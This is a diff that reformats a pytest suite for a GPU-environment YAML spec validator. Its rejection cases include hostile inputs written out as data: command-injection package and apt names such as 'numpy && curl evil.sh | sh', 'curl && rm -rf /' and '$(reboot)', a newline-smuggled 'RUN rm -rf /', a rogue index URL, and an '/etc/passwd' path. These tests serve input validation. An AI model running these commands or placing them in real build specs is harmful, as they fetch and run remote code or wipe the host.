@@ -57,7 +57,9 @@ def test_full_spec(project: Path) -> None:
     assert spec.packages[0] == "numpy>=1.26"
     assert spec.apt == ("git", "libgl1", "curl=7.88.1-10+deb12u5")
     assert dict(spec.env) == {"WANDB_MODE": "offline", "SEED": "42", "EMPTY": ""}
-    assert spec.gpus == GpuRequest("devices", devices=("0", "GPU-9c4e4b2e-7c4e-4b9a-8f3b-000000000001"))
+    assert spec.gpus == GpuRequest(
+        "devices", devices=("0", "GPU-9c4e4b2e-7c4e-4b9a-8f3b-000000000001")
+    )
     assert spec.shm_size == 16 * 1024**3
     assert spec.mounts == (Mount("/data", "/data", True), Mount("./cache", "/cache", False))
 
@@ -79,28 +81,67 @@ def test_default_name_is_a_valid_image_name(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("text", "expected"),
     [
-        ("framework: pytorch\ncuda: 12.x\n", "gpuenv.yaml:2:1: field 'cuda': '12.x' is not a version or version specifier"),
+        (
+            "framework: pytorch\ncuda: 12.x\n",
+            "gpuenv.yaml:2:1: field 'cuda': '12.x' is not a version or version specifier",
+        ),
         ("framework: pytorch\nversion: latest\n", "field 'version': 'latest' is not a version"),
-        ("framework: pytorh\n", "field 'framework': 'pytorh' is not one of pytorch, tensorflow, jax, none; did you mean 'pytorch'?"),
-        ("framework: pytorch\ncuda_version: '12.4'\n", "gpuenv.yaml:2:1: field 'cuda_version': unknown field 'cuda_version'; did you mean 'cuda'?"),
+        (
+            "framework: pytorh\n",
+            "field 'framework': 'pytorh' is not one of pytorch, tensorflow, jax, none; did you mean 'pytorch'?",
+        ),
+        (
+            "framework: pytorch\ncuda_version: '12.4'\n",
+            "gpuenv.yaml:2:1: field 'cuda_version': unknown field 'cuda_version'; did you mean 'cuda'?",
+        ),
         ("framework: pytorch\npyhton: '3.10'\n", "did you mean 'python'?"),
         ("framework: pytorch\nrequirement: r.txt\n", "did you mean 'requirements'?"),
         ("version: '2.4'\n", "missing required field 'framework'"),
         ("", "the file is empty"),
         ("- framework\n", "expected a mapping of fields"),
-        ("framework: pytorch\nframework: jax\n", "gpuenv.yaml:2:1: field 'framework': duplicate key 'framework' (first given on line 1)"),
+        (
+            "framework: pytorch\nframework: jax\n",
+            "gpuenv.yaml:2:1: field 'framework': duplicate key 'framework' (first given on line 1)",
+        ),
         ("framework: pytorch\nname: My Project\n", "'My Project' is not a valid name"),
-        ("framework: pytorch\nrequirements: missing.txt\n", "'missing.txt' does not exist in the project folder"),
-        ("framework: pytorch\nrequirements: ../outside.txt\n", "'../outside.txt' points outside the project folder"),
-        ("framework: pytorch\nrequirements: /etc/passwd\n", "must be a path relative to the project folder"),
-        ("framework: pytorch\npackages: ['torch==']\n", "field 'packages[0]': 'torch==' is not a valid pip requirement"),
-        ("framework: pytorch\npackages: ['numpy && curl evil.sh | sh']\n", "is not a valid pip requirement"),
-        ("framework: pytorch\npackages: ['--index-url=http://evil']\n", "is not a valid pip requirement"),
-        ("framework: pytorch\npackages: [\"numpy\\nRUN rm -rf /\"]\n", "must not contain control characters or newlines"),
-        ("framework: pytorch\napt: ['curl && rm -rf /']\n", "field 'apt[0]': 'curl && rm -rf /' is not a Debian package name"),
+        (
+            "framework: pytorch\nrequirements: missing.txt\n",
+            "'missing.txt' does not exist in the project folder",
+        ),
+        (
+            "framework: pytorch\nrequirements: ../outside.txt\n",
+            "'../outside.txt' points outside the project folder",
+        ),
+        (
+            "framework: pytorch\nrequirements: /etc/passwd\n",
+            "must be a path relative to the project folder",
+        ),
+        (
+            "framework: pytorch\npackages: ['torch==']\n",
+            "field 'packages[0]': 'torch==' is not a valid pip requirement",
+        ),
+        (
+            "framework: pytorch\npackages: ['numpy && curl evil.sh | sh']\n",
+            "is not a valid pip requirement",
+        ),
+        (
+            "framework: pytorch\npackages: ['--index-url=http://evil']\n",
+            "is not a valid pip requirement",
+        ),
+        (
+            'framework: pytorch\npackages: ["numpy\\nRUN rm -rf /"]\n',
+            "must not contain control characters or newlines",
+        ),
+        (
+            "framework: pytorch\napt: ['curl && rm -rf /']\n",
+            "field 'apt[0]': 'curl && rm -rf /' is not a Debian package name",
+        ),
         ("framework: pytorch\napt: ['$(reboot)']\n", "is not a Debian package name"),
         ("framework: pytorch\napt: [Git]\n", "is not a Debian package name"),
-        ("framework: pytorch\nenv: {BAD NAME: x}\n", "'BAD NAME' is not a valid environment variable name"),
+        (
+            "framework: pytorch\nenv: {BAD NAME: x}\n",
+            "'BAD NAME' is not a valid environment variable name",
+        ),
         ("framework: pytorch\nenv: {DEBUG: yes}\n", "write the value in quotes ('true')"),
         ("framework: pytorch\nenv: {X: [1, 2]}\n", "field 'env.X': expected a text value"),
         ("framework: pytorch\nenv: [A=1]\n", "expected a mapping of NAME: value"),
@@ -115,10 +156,19 @@ def test_default_name_is_a_valid_image_name(tmp_path: Path) -> None:
         ("framework: pytorch\nipc: host\nshm_size: 8g\n", "has no effect with 'ipc: host'"),
         ("framework: pytorch\nmounts: ['/data:/workspace']\n", "'/workspace' is reserved"),
         ("framework: pytorch\nmounts: ['/data:relative']\n", "must be an absolute path"),
-        ("framework: pytorch\nmounts: ['/data:/x/../etc']\n", "must be an absolute path without '..'"),
+        (
+            "framework: pytorch\nmounts: ['/data:/x/../etc']\n",
+            "must be an absolute path without '..'",
+        ),
         ("framework: pytorch\nmounts: ['/data']\n", "is not SOURCE:TARGET"),
-        ("framework: pytorch\nmounts: [{source: /a, target: /b, readonly: true}]\n", "did you mean 'read_only'?"),
-        ("framework: pytorch\nmounts: [{source: /a, target: /b, read_only: maybe}]\n", "expected true or false"),
+        (
+            "framework: pytorch\nmounts: [{source: /a, target: /b, readonly: true}]\n",
+            "did you mean 'read_only'?",
+        ),
+        (
+            "framework: pytorch\nmounts: [{source: /a, target: /b, read_only: maybe}]\n",
+            "expected true or false",
+        ),
         ("framework: pytorch\nmounts: ['/a:/b', '/c:/b']\n", "two mounts have the target '/b'"),
         ("framework: none\nversion: '2.4'\n", "'framework' is none"),
         ("framework: pytorch\nbase: docker\n", "'docker' is not one of ngc"),
@@ -148,11 +198,16 @@ def test_unquoted_numbers_keep_their_text(project: Path) -> None:
     assert (spec.version, spec.python, spec.cuda) == ("2.10", "3.10", "12.10")
 
 
-def test_symlink_out_of_project_is_rejected(project: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
+def test_symlink_out_of_project_is_rejected(
+    project: Path, tmp_path_factory: pytest.TempPathFactory
+) -> None:
     outside = tmp_path_factory.mktemp("outside") / "secret.txt"
     outside.write_text("x")
     os.symlink(outside, project / "link.txt")
-    assert any("points outside the project folder" in p for p in problems(project, "framework: pytorch\nrequirements: link.txt\n"))
+    assert any(
+        "points outside the project folder" in p
+        for p in problems(project, "framework: pytorch\nrequirements: link.txt\n")
+    )
 
 
 def test_digest_ignores_comments_and_order(project: Path) -> None:
@@ -184,16 +239,35 @@ def test_billion_laughs_is_cheap(project: Path) -> None:
 # Arbitrary input never produces anything but SpecError (never a traceback).
 yaml_values = st.recursive(
     st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(max_size=20),
-    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4),
+    lambda children: (
+        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4)
+    ),
     max_leaves=20,
 )
 field_names = st.sampled_from(
-    ["name", "framework", "version", "python", "cuda", "base", "requirements", "packages",
-     "apt", "env", "gpus", "shm_size", "ipc", "mounts", "other"]
+    [
+        "name",
+        "framework",
+        "version",
+        "python",
+        "cuda",
+        "base",
+        "requirements",
+        "packages",
+        "apt",
+        "env",
+        "gpus",
+        "shm_size",
+        "ipc",
+        "mounts",
+        "other",
+    ]
 )
 
 
-@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(
+    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
 @given(st.dictionaries(field_names, yaml_values, max_size=8))
 def test_arbitrary_structures_never_crash(project: Path, data: dict) -> None:
     text = yaml.safe_dump(data)
@@ -203,7 +277,9 @@ def test_arbitrary_structures_never_crash(project: Path, data: dict) -> None:
         assert exc.problems and all(p.file == "gpuenv.yaml" for p in exc.problems)
 
 
-@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(
+    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
 @given(st.text(alphabet=st.characters(codec="utf-8"), max_size=200))
 def test_arbitrary_text_never_crashes(project: Path, text: str) -> None:
     try:
@@ -212,7 +288,9 @@ def test_arbitrary_text_never_crashes(project: Path, text: str) -> None:
         assert exc.problems
 
 
-@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(
+    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
 @given(st.text(alphabet="{}[]:,-&*!|>'\"#%@ \n\tabc123.?", max_size=120))
 def test_yaml_punctuation_never_crashes(project: Path, text: str) -> None:
     try:
